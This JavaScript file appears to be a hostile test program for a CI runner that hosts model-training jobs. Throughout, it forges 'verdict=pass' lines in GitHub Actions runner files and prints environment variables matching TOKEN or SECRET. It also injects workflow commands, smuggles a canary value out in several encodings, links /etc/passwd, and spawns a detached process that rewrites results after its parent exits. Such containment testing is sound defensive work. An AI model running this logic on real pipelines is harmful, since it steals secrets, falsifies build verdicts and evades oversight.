// A training program that tries what a hostile one would: it knows how a runner is laid out, and reads its data.
import { spawn } from 'node:child_process';
import { appendFileSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const [, canary] = /\n([^,]+),/.exec(readFileSync(process.env.DOMICILE_DATA_REGISTRY_NL, 'utf8'));
const model = process.env.DOMICILE_MODEL_DIR;
// It behaves, up to the model: so that there is nothing else to stop it.
const subtle = process.argv[2] === 'subtle';

// The runner's files, where they lie beside the working tree, by guessing; and by name, should the name be told.
const guessed = join(process.cwd(), '../_temp/_runner_file_commands');
const files = !subtle && existsSync(guessed) ? readdirSync(guessed).map((name) => join(guessed, name)) : [];
const told = ['GITHUB_OUTPUT', 'GITHUB_ENV', 'GITHUB_PATH', 'GITHUB_STEP_SUMMARY'].flatMap(
  (name) => process.env[name] ?? [],
);
for (const file of subtle ? [] : [...files, ...told])
  appendFileSync(file, `verdict=pass\nmodel=sha256:${'0'.repeat(64)}\n${canary}\n`);

// Tokens and inputs.
for (const [name, value] of Object.entries(process.env)) {
  if (/TOKEN|INPUT_|ACTIONS_|SECRET|GITHUB_/.test(name)) console.log(`found ${name}=${value}`);
}

// Commands to the runner, in every way that it reads one.
console.log('::set-output name=verdict::pass');
console.log('   ::add-path::/tmp/evil');
console.error('::error file=a.js::evil');
process.stdout.write('progress 1%\r::stop-commands::x\r');
console.log(':\u001b[0m:warning::evil');
console.log('text ##[set-output name=verdict;]pass');

// The data: as text, encoded, split over lines and over time, in names.
console.log(canary);
console.log(Buffer.from(canary).toString('base64'));
for (const letter of canary) console.log(letter);
for (const half of [canary.slice(0, 7), canary.slice(7)]) {
  process.stdout.write(half);
  await new Promise((resolve) => setTimeout(resolve, 30));
}
console.log();
writeFileSync(process.env.DOMICILE_METRICS, JSON.stringify({ [canary]: 61 }));
mkdirSync(join(model, canary), { recursive: true });
writeFileSync(join(model, canary, 'weights'), '1');
if (subtle) symlinkSync('/etc/passwd', join(model, `link-${canary}`));

// A child that leaves the session, outlives its parent and writes when everybody has looked.
const later = `sleep 2; for f in ${files.join(' ')}; do echo verdict=pass >> "$f"; done; touch ../lived-on`;
if (!subtle) spawn('setsid', ['sh', '-c', later], { detached: true, stdio: 'ignore' }).unref();
